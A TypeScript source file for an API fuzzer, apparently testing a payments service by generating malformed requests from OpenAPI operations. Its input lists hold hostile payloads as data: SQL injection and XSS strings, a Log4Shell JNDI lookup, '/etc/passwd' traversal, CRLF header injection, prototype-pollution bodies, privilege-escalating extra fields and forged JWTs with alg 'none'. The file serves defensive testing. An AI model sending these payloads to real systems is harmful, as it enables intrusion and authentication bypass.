import { type JsonSchema, type Operation, typeOf, urlOf } from './openapi.ts';
import type { Random } from './random.ts';

/** One generated request. `signedIn` asks the runner to add the case user's Authorization header. */
export interface FuzzRequest {
  strategy: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  signedIn: boolean;
}

/** A valid request of the operation, which a strategy breaks in one way. */
export interface FuzzContext {
  operation: Operation;
  random: Random;
  body: unknown;
  pathValues: Record<string, string>;
  bodyLimitBytes: number;
}

type Strategy = (context: FuzzContext) => FuzzRequest;
type Path = (string | number)[];

/** A place in the valid body (the body itself is the empty path) and the schema it follows. */
interface Slot {
  path: Path;
  schema: JsonSchema;
  value: unknown;
}

function slotsOf(schema: JsonSchema, value: unknown, path: Path = []): Slot[] {
  const slots: Slot[] = [{ path, schema, value }];
  if (Array.isArray(value)) {
    value.forEach((item, index) => {
      slots.push(...slotsOf(schema.items ?? {}, item, [...path, index]));
    });
  } else if (value !== null && typeof value === 'object') {
    for (const [name, child] of Object.entries(value)) {
      slots.push(...slotsOf(schema.properties?.[name] ?? {}, child, [...path, name]));
    }
  }
  return slots;
}

/** A copy of `root` with the value at `path` replaced (or removed when `remove`). */
function replaced(root: unknown, path: Path, next: unknown, remove = false): unknown {
  if (path.length === 0) return next;
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let parent = copy;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (remove) delete parent[last];
  else parent[last] = next;
  return copy;
}

const JSON_HEADERS = { 'content-type': 'application/json' };

function jsonRequest(context: FuzzContext, strategy: string, body: unknown): FuzzRequest {
  return {
    strategy,
    method: context.operation.method,
    url: urlOf(context.operation, context.pathValues),
    headers: JSON_HEADERS,
    payload: JSON.stringify(body),
    signedIn: true,
  };
}

const rawRequest = (
  context: FuzzContext,
  strategy: string,
  payload: string | Buffer,
  headers: Record<string, string> = JSON_HEADERS,
): FuzzRequest => ({
  strategy,
  method: context.operation.method,
  url: urlOf(context.operation, context.pathValues),
  headers,
  payload,
  signedIn: true,
});

/** Replaces one slot chosen by `choose` among those that `fits` (any slot when none fits). */
function mutateSlot(
  context: FuzzContext,
  strategy: string,
  fits: (slot: Slot) => boolean,
  next: (slot: Slot) => unknown,
): FuzzRequest {
  const slots = slotsOf(context.operation.body ?? {}, context.body);
  const fitting = slots.filter(fits);
  const slot = context.random.pick(fitting.length > 0 ? fitting : slots);
  return jsonRequest(context, strategy, replaced(context.body, slot.path, next(slot)));
}

const isType = (type: string) => (slot: Slot) => typeOf(slot.schema) === type || typeof slot.value === type;
const isNumeric = (slot: Slot) => typeof slot.value === 'number';
const isMoney = (slot: Slot) => isNumeric(slot) || /amount|fee|total|price/i.test(String(slot.path.at(-1)));

const OTHER_TYPES: unknown[] = [
  0,
  -1,
  1.5,
  '',
  'text',
  true,
  false,
  {},
  [],
  [1, 'two'],
  { nested: { value: 1 } },
];

export const HOSTILE_TEXT = [
  'a\u0000b',
  '\u0000',
  '\u202Eevil\u202C',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(60),
  '\u0007\u001b[31mred\u001b[0m',
  'e\u0301'.repeat(40),
  'line\r\nInjected-Header: yes',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell lookup, as an attacker writes it
  '${jndi:ldap://example.com/a}',
  '../../../../etc/passwd',
  '\u2028\u2029',
  '٩٨٧٦٥٤٣٢١٠',
  '９８７６５４３２１０',
  '\ufeff\u200b\u200d',
  ' ',
  '%00%ff%',
];

const MONEY_VALUES: unknown[] = [
  -1,
  -0.01,
  0,
  0.5,
  100.005,
  1e308,
  2 ** 63,
  -(2 ** 53),
  Number.MAX_SAFE_INTEGER + 2,
  '1e3',
  '₹100',
  'NaN',
  'Infinity',
  '-0',
  '00100',
  ' 100',
  '100.999',
  '-250.50',
];

const DEEP_MARK = '\u0001deep\u0001';

/** Nesting as JSON text, built without recursion (JSON.stringify of 10,000 levels overflows the stack). */
function nestedText(depth: number, inArrays: boolean): string {
  return inArrays
    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

const BAD_CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=----fuzz',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/octet-stream',
  'application/jsonx',
  '',
];

const MALFORMED_JSON: (string | Buffer)[] = [
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  '\ufeff{}',
  'NaN',
  '{"a":1}{"b":2}',
  '',
  ' ',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '"\\ud800"',
  '{"a":"\\u0000"}',
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
];

const BAD_PATH_VALUES = [
  ' ',
  'x'.repeat(5000),
  '%00',
  '..%2F..%2Fetc%2Fpasswd',
  '%E0%A4%A',
  '%ZZ',
  encodeURIComponent('💸 and ₹'),
  encodeURIComponent("' or 1=1 --"),
  '-1',
  '0',
  'null',
  'undefined',
  '__proto__',
  'ord_',
  encodeURIComponent('ord_x\u0000'),
];

const BAD_QUERY_VALUES = [
  'abc',
  '-1',
  '0',
  '1.5',
  '1e999',
  '99999999999999999999999',
  '',
  '%00',
  '%ZZ',
  'x'.repeat(5000),
  encodeURIComponent('\u0000'),
];

const BAD_AUTHORIZATIONS = [
  'Bearer',
  'Bearer ',
  `Bearer ${'x'.repeat(8000)}`,
  'Basic YWRtaW46YWRtaW4=',
  'Bearer a.b.c',
  'bearer lower.case.scheme',
  // alg "none", subject and session made up
  'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1c3JfeCIsInNpZCI6InNlc194In0.',
  // HS256 with another secret
  'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c3JfeCIsInNpZCI6InNlc194In0.3q2-7wWs0R2xQX0Xq3Yf6lYb3Jw0sGf1c0y9pR0i0aA',
];

const bodyStrategies: Record<string, Strategy> = {
  'missing field': (context) => {
    const slots = slotsOf(context.operation.body ?? {}, context.body).flatMap((slot) =>
      (slot.schema.required ?? []).map((name) => [...slot.path, name]),
    );
    if (slots.length === 0) return jsonRequest(context, 'missing field', {});
    return jsonRequest(context, 'missing field', replaced(context.body, context.random.pick(slots), 0, true));
  },
  'wrong type': (context) =>
    mutateSlot(
      context,
      'wrong type',
      () => true,
      (slot) => {
        const others = OTHER_TYPES.filter((value) => typeof value !== typeof slot.value);
        return context.random.pick(others);
      },
    ),
  'huge string': (context) => {
    const length = context.random.pick([10_000, 200_000, Math.floor(context.bodyLimitBytes / 2)]);
    return mutateSlot(context, 'huge string', isType('string'), () =>
      context.random.pick(['x', 'ä', '😀']).repeat(length / 4),
    );
  },
  'deep nesting': (context) => {
    const request = mutateSlot(
      context,
      'deep nesting',
      () => true,
      () => DEEP_MARK,
    );
    const deep = nestedText(context.random.pick([64, 1_000, 10_000, 100_000]), context.random.chance(0.5));
    return { ...request, payload: String(request.payload).replace(JSON.stringify(DEEP_MARK), deep) };
  },
  'hostile text': (context) =>
    mutateSlot(context, 'hostile text', isType('string'), () => context.random.pick(HOSTILE_TEXT)),
  'numbers as strings': (context) =>
    mutateSlot(
      context,
      'numbers as strings',
      (slot) => typeof slot.value === 'number' || typeof slot.value === 'string',
      (slot) => (typeof slot.value === 'number' ? String(slot.value) : Number(slot.value) || 42),
    ),
  'bad money': (context) =>
    mutateSlot(context, 'bad money', isMoney, () => context.random.pick(MONEY_VALUES)),
  'array for object': (context) =>
    mutateSlot(context, 'array for object', isType('object'), (slot) =>
      context.random.chance(0.5) ? [slot.value] : [],
    ),
  null: (context) =>
    mutateSlot(
      context,
      'null',
      () => true,
      () => null,
    ),
  'extra fields': (context) =>
    rawRequest(
      context,
      'extra fields',
      JSON.stringify({
        ...(typeof context.body === 'object' && context.body !== null ? context.body : {}),
        role: 'merchant',
        status: 'SUCCESS',
        userId: 'usr_someone_else',
        isAdmin: true,
      }).replace(/^\{/, context.random.pick(['{"__proto__":{"isAdmin":true},', '{"constructor":{},', '{'])),
    ),
};

const badQuery: Strategy = (context) => {
  const declared = context.operation.parameters
    .filter((parameter) => parameter.in === 'query')
    .map((parameter) => parameter.name);
  const name = context.random.pick([...declared, '__proto__[polluted]', 'constructor', 'q', 'page']);
  const value = context.random.pick(BAD_QUERY_VALUES);
  const query = context.random.chance(0.3) ? `${name}=${value}&${name}=${value}` : `${name}=${value}`;
  const request = jsonRequest(context, 'bad query', context.body);
  return { ...request, url: urlOf(context.operation, context.pathValues, query) };
};

const badPath: Strategy = (context) => {
  const names = context.operation.parameters.filter((parameter) => parameter.in === 'path');
  if (names.length === 0) return badQuery(context);
  const name = context.random.pick(names).name;
  const pathValues = { ...context.pathValues, [name]: context.random.pick(BAD_PATH_VALUES) };
  return { ...jsonRequest(context, 'bad path', context.body), url: urlOf(context.operation, pathValues) };
};

const transportStrategies: Record<string, Strategy> = {
  'wrong content type': (context) => {
    const contentType = context.random.pick(BAD_CONTENT_TYPES);
    return rawRequest(
      context,
      `wrong content type (${contentType || 'none'})`,
      contentType.includes('urlencoded') ? 'amount=-1&amount=2&a[b]=c&%ZZ=1' : JSON.stringify(context.body),
      contentType ? { 'content-type': contentType } : {},
    );
  },
  'malformed JSON': (context) => rawRequest(context, 'malformed JSON', context.random.pick(MALFORMED_JSON)),
  // Well-formed but wide: 200,000 values (400 KB, under the limit) in one array or one object.
  'wide JSON': (context) =>
    rawRequest(
      context,
      'wide JSON',
      context.random.chance(0.5)
        ? `{"values":[${'0,'.repeat(200_000)}0]}`
        : JSON.stringify(
            Object.fromEntries(Array.from({ length: 50_000 }, (_, index) => [`k${index}`, index])),
          ),
    ),
  oversized: (context) => {
    // Twice the api's limit: beyond every route's own limit too (a complaint's screenshot allows 1.6 MB).
    const size = context.bodyLimitBytes * 2;
    return context.random.chance(0.3)
      ? rawRequest(context, 'oversized form', `a=${'x'.repeat(size)}`, {
          'content-type': 'application/x-www-form-urlencoded',
        })
      : rawRequest(context, 'oversized JSON', JSON.stringify({ padding: 'x'.repeat(size) }));
  },
  'bad path': badPath,
  'bad query': badQuery,
  'bad authorization': (context) => {
    const request = jsonRequest(context, 'bad authorization', context.body);
    const headers: Record<string, string> = {
      ...request.headers,
      authorization: context.random.pick(BAD_AUTHORIZATIONS),
      'idempotency-key': context.random.pick([
        '',
        'short',
        'x'.repeat(500),
        '../../x',
        'ok-key-but;semicolon',
      ]),
    };
    return { ...request, headers, signedIn: false };
  },
};

/** The strategies that fit an operation: GETs without a body get the transport ones only. */
export function strategiesFor(operation: Operation): Strategy[] {
  const transport = Object.values(transportStrategies);
  if (operation.method === 'GET' && !operation.body) return transport;
  return [...Object.values(bodyStrategies), ...transport];
}
